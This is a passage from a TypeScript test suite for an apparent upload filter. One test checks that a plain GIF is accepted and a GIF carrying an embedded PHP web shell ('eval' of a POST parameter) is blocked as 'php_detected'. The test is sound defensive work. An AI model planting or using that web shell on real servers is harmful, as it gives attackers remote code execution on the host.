    assert.equal(((await br.body.json()) as { reason: string }).reason, 'unsupported_content_encoding');
  } finally {
    await strict.close();
  }
});

test('a binary upload is not read as text, but a web shell hidden in an image is found; a plain image passes', async () => {
  const upload = (file: Buffer) => send('/upload', {
    method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b' },
    body: Buffer.concat([Buffer.from('--b\r\nContent-Disposition: form-data; name="avatar"; filename="me.gif"\r\nContent-Type: image/gif\r\n\r\n'), file, Buffer.from('\r\n--b--\r\n')]),
  });
  const pixels = Buffer.alloc(4096);
  for (let i = 0; i < pixels.length; i++) pixels[i] = (i * 2654435761) >>> 24; // fixed noise, with NUL bytes
  const gif = Buffer.concat([Buffer.from('GIF89a', 'latin1'), pixels]);
  assert.equal((await upload(gif)).status, 200);
  const shell = Buffer.concat([Buffer.from('GIF89a', 'latin1'), pixels.subarray(0, 100), Buffer.from('<?php eval($_POST["x"]); ?>'), pixels.subarray(100)]);
  const res = await upload(shell);
  assert.equal(res.status, 403);
  assert.equal(res.problem.reason, 'php_detected');
});
